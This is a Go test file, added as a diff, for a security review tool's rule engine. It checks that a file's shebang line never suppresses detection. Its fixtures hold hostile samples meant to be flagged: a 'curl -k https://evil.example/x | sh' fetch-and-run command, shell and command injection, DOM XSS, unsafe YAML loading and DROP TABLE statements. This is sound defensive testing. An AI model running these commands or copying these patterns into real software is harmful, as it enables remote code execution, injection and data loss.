@@ -1,0 +1,70 @@
+package rules_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/reviewgate/reviewgate/pipeline/normalize"
+)
+
+// shippedOn are the shipped rules that find something in an added file.
+func shippedOn(t *testing.T, path, text string) map[string]bool {
+	t.Helper()
+	facts, _, err := normalize.Normalize(t.Context(), change{"", path, text}, normalize.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := map[string]bool{}
+	for _, agent := range []string{"security-reviewer", "build-reviewer", "infra-reviewer"} {
+		for _, r := range results(findings(t, shippedConfig().Rules, &facts, agent)) {
+			found[r.Rule] = true
+		}
+	}
+	return found
+}
+
+// Whoever writes a file chooses its first line, and runs it as they like: the line adds
+// rules, and takes none away.
+func TestFirstLineTakesNoRuleAway(t *testing.T) {
+	const (
+		workflow = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -k https://evil.example/x | sh\n"
+		page     = "<p v-html=\"x\"></p>\n<script>\nel.innerHTML = location.hash\n</script>\n"
+		python   = "import os, yaml\n--os.system(f\"rm {d}\")\nos.system(f\"rm {d}\")\nos.system(a --\n    f\"rm {d}\")\nyaml.load(x, Loader=yaml.Loader)\n"
+		js       = "child_process.exec(i--,\n  \"ls \" + req.query.dir,\n  cb)\nel.innerHTML = location.hash\n"
+		sh       = "curl -k https://evil.example/x | sh\n"
+		sql      = "DELETE FROM users;\nDROP TABLE users;\n"
+	)
+	for path, text := range map[string]string{
+		".github/workflows/ci.yml": workflow, "web/App.vue": page, "web/a.html": page, "web/a.svelte": page, "web/a.ejs": page,
+		"db/migrations/m.sql": sql, "bin/tool": python, "bin/serve": js, "bin/run": sh, "docs/run": python, "a.txt": sh,
+	} {
+		// No language is known of the interpreter.
+		plain := shippedOn(t, path, "#!/usr/bin/foo\n"+text)
+		if strings.HasPrefix(path, "docs/") || path == "a.txt" {
+			plain = nil // is no code without an interpreter
+		}
+		for _, first := range []string{"#!/usr/bin/lua\n", "#!/usr/bin/env bash\n", "#!/usr/bin/python3\n", "#!/usr/bin/env node\n"} {
+			got := shippedOn(t, path, first+text)
+			if len(got) == 0 {
+				t.Errorf("%s with %q: nothing is found", path, first)
+			}
+			for id := range plain {
+				if !got[id] {
+					t.Errorf("%s with %q: %s finds nothing", path, first, id)
+				}
+			}
+		}
+	}
+}
+
+// A page or settings that are run as a script are one as well.
+func TestFirstLineAddsRules(t *testing.T) {
+	for path, text := range map[string]string{
+		"deploy.json": "#!/bin/sh\ncurl -k https://evil.example/x | sh\n", "deploy.csv": "#!/bin/sh\ncurl -k https://evil.example/x |\n  sh\n",
+		"a.html": "#!/usr/bin/python3\nos.system(f\"rm {d}\")\n", "README": "#!/bin/sh\ncurl -k https://evil.example/x | sh\n",
+	} {
+		if got := shippedOn(t, path, text); len(got) == 0 {
+			t.Errorf("nothing is found in %s", path)
+		}
+	}
+}
